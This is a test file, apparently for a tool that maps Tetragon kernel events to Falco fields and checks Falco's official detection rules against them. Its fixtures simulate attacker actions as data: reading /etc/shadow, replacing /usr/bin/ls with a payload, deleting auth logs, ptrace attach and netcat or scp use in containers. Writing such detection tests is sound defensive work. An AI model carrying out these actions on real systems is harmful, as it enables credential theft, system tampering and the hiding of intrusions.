  });

  it('IPv6: addresses compare by value, networks by CIDR', () => {
    const e = decodeOk(copy(TCP_CONNECT));
    expectFields(e, { 'fd.name': 'fd00::5:41234->2001:db8::7:443', 'fd.typechar': '6', 'fd.type': 'ipv6', 'fd.sip': '2001:db8::7', 'fd.sport': 443, 'container.id': 'host' });
    assert.equal(holds('fd.sip = "2001:db8:0:0:0:0:0:7" and fd.snet = "2001:db8::/32" and fd.cnet = "fd00::/8" and fd.ip != "::1"', e), true);
  });

  it('Falco’s outbound macro needs the connect’s result: it holds once the return is probed', (t) => {
    if (!requireCorpus(t)) return;
    const official = readOfficial();
    const outbound = compile(expand(official, parse('outbound')), TABLE);
    assert.equal(outbound(tcpConnect('142.250.180.196')), false, 'no return: evt.rawres is missing');
    assert.equal(outbound(tcpConnect('142.250.180.196', 0)), true);
    assert.equal(outbound(tcpConnect('142.250.180.196', -111)), false, 'ECONNREFUSED');
    assert.equal(outbound(tcpConnect('10.96.0.1', 0)), false, 'an RFC 1918 server');
    assert.equal(outbound(tcpConnect('127.0.0.1', 0, '127.0.0.1')), false, 'loopback (the kernel picks a loopback source)');
    // fd.ip/fd.net match either end; libsinsp's `!=` wants both ends to differ, Vigil's one
    // (docs/fields/syscall.md): they part only when exactly one end is the address tested.
    assert.equal(holds('fd.ip != 10.88.0.7', tcpConnect('142.250.180.196')), true);
    expectFields(tcpConnect('142.250.180.196', -111), { 'evt.dir': '<', 'evt.res': 'ECONNREFUSED', 'evt.failed': true });
  });

  it('address keys kept per event are the keys of the addresses the fields extract', () => {
    const events = [
      tcpConnect('142.250.180.196'), tcpConnect('10.96.0.1', 0), tcpConnect('not-an-address'), decodeOk(copy(TCP_CONNECT)),
      hook('process_kprobe', 'inet_csk_accept', [], { sock_arg: { family: 'AF_INET', protocol: 'IPPROTO_TCP', saddr: '10.0.0.5', sport: 8080, daddr: '203.0.113.9', dport: 51000 } }),
      hook('process_kprobe', 'security_socket_connect', [{ sock_arg: { family: 'AF_INET', protocol: 'IPPROTO_UDP', saddr: '0.0.0.0', daddr: '0.0.0.0' } }, { sockaddr_arg: { family: 'AF_INET', addr: '8.8.8.8', port: 53 } }]),
      hook('process_kprobe', 'security_socket_connect', [{ sock_arg: { family: 'AF_UNIX' } }, { sockaddrun_arg: { path: '/run/x.sock' } }]),
      decodeOk(copy(FILE_ACCESS_KPROBE)),
    ];
    const keyed = SYSCALL_FIELDS.filter((f) => f.extractKeys !== undefined);
    assert.deepEqual(keyed.map((f) => f.name).sort(), ['fd.cip', 'fd.cnet', 'fd.ip', 'fd.lip', 'fd.lnet', 'fd.net', 'fd.rip', 'fd.rnet', 'fd.sip', 'fd.snet']);
    const keysOf = (v: FieldValue | undefined): FieldValue | undefined => {
      if (v === undefined) return undefined;
      if (!Array.isArray(v)) return addressKey(String(v));
      return v.flatMap((x) => { const k = addressKey(String(x)); return k === undefined ? [] : [k]; });
    };
    let defined = 0;
    for (const e of events) {
      for (const f of keyed) {
        const want = keysOf(f.extract(e, undefined));
        assert.deepEqual(f.extractKeys?.(e, undefined), want, `${f.name} on ${JSON.stringify(e.payload).slice(0, 80)}`);
        if (want !== undefined) defined++;
      }
    }
    assert.ok(defined > 30, `${defined} keys compared`);
  });

  it('the server side (a socket inet_csk_accept returns) and a peer named by a sockaddr', () => {
    const accepted = hook('process_kprobe', 'inet_csk_accept', [], { sock_arg: { family: 'AF_INET', protocol: 'IPPROTO_TCP', saddr: '10.0.0.5', sport: 8080, daddr: '203.0.113.9', dport: 51000, state: 'TCP_ESTABLISHED' } });
    expectFields(accepted, { 'evt.type': 'accept', 'fd.name': '203.0.113.9:51000->10.0.0.5:8080', 'fd.sip': '10.0.0.5', 'fd.sport': 8080, 'fd.cip': '203.0.113.9', 'fd.is_server': true, 'fd.connected': true });
    const connecting = hook('process_kprobe', 'security_socket_connect', [{ sock_arg: { family: 'AF_INET', protocol: 'IPPROTO_UDP', saddr: '0.0.0.0', daddr: '0.0.0.0' } }, { sockaddr_arg: { family: 'AF_INET', addr: '8.8.8.8', port: 53 } }]);
    expectFields(connecting, { 'evt.type': 'connect', 'fd.sip': '8.8.8.8', 'fd.sport': 53, 'fd.l4proto': 'udp', 'fd.name': '0.0.0.0->8.8.8.8:53' });
    const sending = hook('process_kprobe', 'tcp_sendmsg', [{ sock_arg: { family: 'AF_INET', protocol: 'IPPROTO_TCP', saddr: '10.0.0.5', sport: 40000, daddr: '1.1.1.1', dport: 443 } }]);
    expectFields(sending, { 'evt.type': 'sendmsg', 'fd.name': '10.0.0.5:40000->1.1.1.1:443', 'fd.sip': undefined, 'fd.lip': '10.0.0.5', 'fd.rport': 443, 'fd.is_server': undefined });
  });
});

describe('file and path syscalls from the example policies', () => {
  it('sys_openat with its return (openat_write.yaml): flags, fd number, resolved name, open macros', (t) => {
    const open = (name: string, flags: number, ret: number, mode?: number): VigilEvent =>
      hook('process_kprobe', '__x64_sys_openat', [int(-100), text(name), int(flags), ...(mode === undefined ? [] : [int(mode)])], int(ret));
    const w = open('notes/.bash_history', 0o1101, 3);
    expectFields(w, {
      'evt.type': 'openat', 'evt.dir': '<', 'fd.num': 3, 'fd.name': '/notes/.bash_history', 'fd.nameraw': 'notes/.bash_history', 'fd.directory': '/notes',
      'evt.arg.flags': 'O_TRUNC|O_CREAT|O_WRONLY', 'evt.arg.dirfd': '-100', 'evt.arg.name': 'notes/.bash_history', 'evt.rawarg.flags': 0o1101,
      'evt.is_open_write': true, 'evt.is_open_read': false, 'evt.is_open_exec': undefined, 'evt.args': 'res=3 dirfd=-100 name=notes/.bash_history flags=O_TRUNC|O_CREAT|O_WRONLY',
    });
    expectFields(open('/tmp/x', 0o100 | 1, 4, 0o755), { 'evt.is_open_exec': true, 'evt.arg.mode': 'S_IXOTH|S_IROTH|S_IXGRP|S_IRGRP|S_IXUSR|S_IWUSR|S_IRUSR' });
    expectFields(open('/etc/shadow', 0, -13), { 'fd.num': -1, 'evt.res': 'EACCES', 'evt.is_open_read': true, 'fd.name': '/etc/shadow' });
    expectFields(open('/etc', 0o200000, 5), { 'fd.typechar': 'd', 'fd.directory': '/etc', 'fd.filename': undefined });
    if (!requireCorpus(t)) return;
    const official = readOfficial();
    const macro = (name: string) => compile(expand(official, parse(name)), TABLE);
    assert.equal(macro('open_write')(w), true);
    assert.equal(macro('open_read')(w), false);
    assert.equal(macro('open_read')(open('/etc/shadow', 0, 3)), true);
    assert.equal(macro('open_file_failed')(open('/etc/shadow', 0, -2)), true);
    // The common file-monitoring hooks do not carry the open flags: the open macros cannot hold.
    assert.equal(macro('open_read')(hook('process_lsm', 'file_open', [file('/etc/shadow')])), false);
  });

  it('renames, links, unlinks, mkdir, chmod: evt.arg names and fs.path', () => {
    const rename = hook('process_kprobe', '__x64_sys_renameat2', [int(-100), text('/tmp/payload'), int(-100), text('/usr/bin/ls'), int(0)]);
    expectFields(rename, {
      'evt.type': 'renameat2', 'evt.arg.oldpath': '/tmp/payload', 'evt.arg.newpath': '/usr/bin/ls', 'fs.path.source': '/tmp/payload',
      'fs.path.target': '/usr/bin/ls', 'fs.path.name': undefined, 'fd.name': undefined,
    });
    const symlink = hook('process_kprobe', 'sys_symlinkat', [text('/etc/shadow'), int(-100), text('s')]);
    expectFields(symlink, { 'evt.type': 'symlinkat', 'evt.arg.target': '/etc/shadow', 'evt.arg.linkpath': 's', 'fs.path.source': '/etc/shadow', 'fs.path.target': '/s', 'fs.path.targetraw': 's' });
    expectFields(hook('process_kprobe', 'sys_unlinkat', [int(-100), text('/var/log/auth.log'), int(0)]), { 'evt.type': 'unlinkat', 'evt.arg.name': '/var/log/auth.log', 'fs.path.name': '/var/log/auth.log' });
    expectFields(hook('process_kprobe', 'security_path_unlink', [{ path_arg: { path: '/var/log/syslog' } }]), { 'evt.type': 'unlinkat', 'fs.path.name': '/var/log/syslog', 'fd.name': undefined });
    expectFields(hook('process_kprobe', '__x64_sys_mkdir', [text('/bin/.hidden'), int(0o755)]), { 'evt.type': 'mkdir', 'evt.arg.path': '/bin/.hidden', 'evt.arg.mode': 'S_IXOTH|S_IROTH|S_IXGRP|S_IRGRP|S_IXUSR|S_IWUSR|S_IRUSR' });
    expectFields(hook('process_kprobe', 'sys_chmod', [text('/tmp/x'), int(0o4755)]), { 'evt.type': 'chmod', 'evt.arg.filename': '/tmp/x' });
    assert.ok(holds('evt.arg.mode contains S_ISUID and evt.arg.mode contains S_IXUSR', hook('process_kprobe', 'sys_chmod', [text('/tmp/x'), int(0o4755)])));
    expectFields(hook('process_kprobe', 'sys_mount', [text('/dev/sda1'), text('/mnt')]), { 'evt.type': 'mount', 'evt.arg.dev': '/dev/sda1', 'evt.arg.dir': '/mnt', 'fs.path.name': '/mnt' });
  });

  it('ptrace, setuid, socket and bpf arguments render as Falco renders them', () => {
    const ptrace = hook('process_kprobe', 'sys_ptrace', [int(16), int(4242)]);
    expectFields(ptrace, { 'evt.type': 'ptrace', 'evt.arg.request': 'PTRACE_ATTACH', 'evt.arg.pid': '4242', 'evt.rawarg.request': 16 });
    assert.equal(holds('evt.type=ptrace and evt.arg.request contains PTRACE_ATTACH', ptrace), true);
    expectFields(hook('process_kprobe', '__x64_sys_setuid', [int(0)]), { 'evt.type': 'setuid', 'evt.category': 'user', 'evt.arg.uid': '0' });
    expectFields(hook('process_kprobe', '__x64_sys_socket', [int(17), int(3), int(768)]), { 'evt.type': 'socket', 'evt.arg.domain': 'AF_PACKET' });
    expectFields(hook('process_kprobe', '__x64_sys_bpf', [int(5)]), { 'evt.type': 'bpf', 'evt.arg.cmd': '5' });
    // A kernel function's integers are not guessed into syscall parameters.
    expectFields(hook('process_kprobe', 'security_file_open', [file('/etc/shadow'), int(1)]), { 'evt.type': 'openat', 'evt.arg.name': '/etc/shadow', 'evt.arg.flags': undefined });
  });
});

describe('Falco’s official syscall rules on Tetragon events', () => {
  it('load unchanged through the rule loader: 93 rules, their outputs, no errors', (t) => {
    if (!requireCorpus(t)) return;
    const files = RULE_FILES.map((f) => ({ name: f, text: readFileSync(corpusPath(f), 'utf8') }));
    const set = loadRules(files, RULE_SOURCES);
    assert.deepEqual(set.diagnostics.filter((d) => d.severity === 'error'), []);
    assert.equal(set.rules.length, 93);
    assert.equal(set.counts.rules, 93);
  });

  it('compile with macros and lists expanded by hand too', (t) => {
    if (!requireCorpus(t)) return;
    const official = readOfficial();
    const failures: string[] = [];
    for (const r of official.rules) {
      try {
        compile(expand(official, parse(r.condition.trim())), TABLE);
      } catch (err) {
        failures.push(`${r.name}: ${(err as Error).message}`);
      }
    }
    assert.deepEqual(failures, []);
  });

  it('raise on the Tetragon corpus what Tetragon reports', async (t) => {
    if (!requireCorpus(t)) return;
    const files = RULE_FILES.map((f) => ({ name: f, text: readFileSync(corpusPath(f), 'utf8') }));
    const all = loadRules(files, RULE_SOURCES).rules;
    const rules = all.filter((r) => r.enabled);
    const fired = new Set<string>();
    for (const e of await corpus()) {
      for (const r of rules) if (r.predicate(e)) fired.add(`${r.name} <- ${e.origin.path.slice(CORPUS_DIR.length + 1)}`);
    }
    assert.deepEqual([...fired].sort(), [
      // Tetragon's namespace-access example: nsenter's setns in a pod.
      'Change thread namespace <- tetragon/docs-examples/namespace-access-block8.jsonl',
      'Launch Remote File Copy Tools in Container <- tetragon/security-observability-with-ebpf/03_chapter/03_security_observability_events/03_post_exploitation_techniques/merlin-agent-scp.json',
      // Not 'Launch Sensitive Mount Container' on the container starts of testdata-events.jsonl:
      // Tetragon reports no mounts, so `not container.mount.dest[…] in ("<NA>","N/A")` is
      // unknown, not true, and the rule cannot fire (NEVER_MATCHES).
      'Launch Suspicious Network Tool in Container <- tetragon/security-observability-with-ebpf/03_chapter/00_process_lifecycle/nc_process_exec.json',
    ]);
    // A disabled rule, evaluated: a container's pid 1 run as root.
    const root = all.find((r) => r.name === 'Container Run as Root User');
    assert.ok(root && !root.enabled);
    assert.ok((await corpus()).some((e) => e.origin.path.endsWith('testdata-events.jsonl') && root.predicate(e)));
  });

  it('official macros on real events', async (t) => {
    if (!requireCorpus(t)) return;
    const official = readOfficial();
    const macro = (name: string) => compile(expand(official, parse(name)), TABLE);
    const [spawned, container, named, entrypoint, kmod, interactive, never, setns] =
      ['spawned_process', 'container', 'proc_name_exists', 'container_entrypoint', 'kernel_module_load', 'interactive', 'never_true', 'evt.type=setns and proc_name_exists'].map(macro) as ((e: VigilEvent) => boolean)[];
    assert.ok(spawned && container && named && entrypoint && kmod && interactive && never && setns);
    const curl = await corpusEvent('docs-examples/events-block1.jsonl');
    assert.deepEqual([spawned(curl), container(curl), named(curl), never(curl)], [true, true, true, false]);
    const vi = await corpusEvent('filename-access-block6.jsonl');
    assert.deepEqual([spawned(vi), container(vi)], [false, true]);
    const modprobe = await corpusEvent('linux-kernel-modules-block10.jsonl');
    assert.deepEqual([spawned(modprobe), container(modprobe)], [true, false]);
    assert.equal(kmod(await corpusEvent('linux-kernel-modules-block11.jsonl')), true);
    assert.equal(kmod(await corpusEvent('linux-kernel-modules-block3.jsonl')), false, 'do_init_module is no syscall');
    assert.equal(entrypoint(await corpusEvent('privileged-pod-init.json')), true, 'forked by containerd-shim');
    assert.equal(entrypoint(await corpusEvent('privileged-pod-nsenter.json')), false, 'forked by bash');
    assert.equal(entrypoint(curl), true, 'no parent known: `not proc.pname exists`');
    assert.equal(interactive(decodeOk(copy(WITH_ANCESTORS))), true, 'sshd among the ancestors');
    assert.equal(setns(await corpusEvent('namespace-access-block8.jsonl')), true);
    assert.equal(spawned(decodeOk(copy(LSM))), false);
  });
});

describe('rendering helpers', () => {
  it('Tetragon arguments to Falco’s proc.args', () => {
    assert.deepEqual(splitArgs('-c "curl https://ebpf.io"'), ['-c', 'curl https://ebpf.io']);
    assert.deepEqual(splitArgs(' "a b" c'), ['a b', 'c']);
    assert.deepEqual(splitArgs('-g "daemon off;"'), ['-g', 'daemon off;']);
    assert.deepEqual(splitArgs('a  b'), ['a', '', 'b']);
    assert.equal(falcoArgs('-v -url https://x:443'), '-v -url https://x:443');
    assert.equal(falcoArgs('-c "7z a s3nsitiv3.7z ../ops/"'), '-c 7z a s3nsitiv3.7z ../ops/');
  });

  it('comm names, flags, modes, results, times', () => {
    assert.equal(commOf('/usr/bin/containerd-shim-runc-v2'), 'containerd-shim');
    assert.equal(commOf('/docker-entrypoint.sh'), 'docker-entrypoi');
    assert.equal(commOf('<kernel>'), '<kernel>');
    assert.equal(renderOpenFlags(0), 'O_RDONLY');
    assert.equal(renderOpenFlags(0o2 | 0o2000000), 'O_RDWR|O_CLOEXEC');
    assert.equal(renderOpenFlags(0o101 | 0o200000), 'O_DIRECTORY|O_CREAT|O_WRONLY');
    assert.equal(renderMode(0o644), 'S_IROTH|S_IRGRP|S_IWUSR|S_IRUSR');
    assert.equal(renderMode(0o2000), 'S_ISGID');
    assert.deepEqual([renderResult(0), renderResult(7), renderResult(-2), renderResult(-115), renderResult(-999)], ['SUCCESS', 'SUCCESS', 'ENOENT', 'EINPROGRESS', '-999']);
    assert.deepEqual(timeParts('2022-01-19T11:16:29.38Z'), { date: '2022-01-19', clock: '11:16:29', nanos: '380000000' });
    assert.deepEqual(timeParts('2022-01-19T11:16:29Z'), { date: '2022-01-19', clock: '11:16:29', nanos: '000000000' });
  });
});
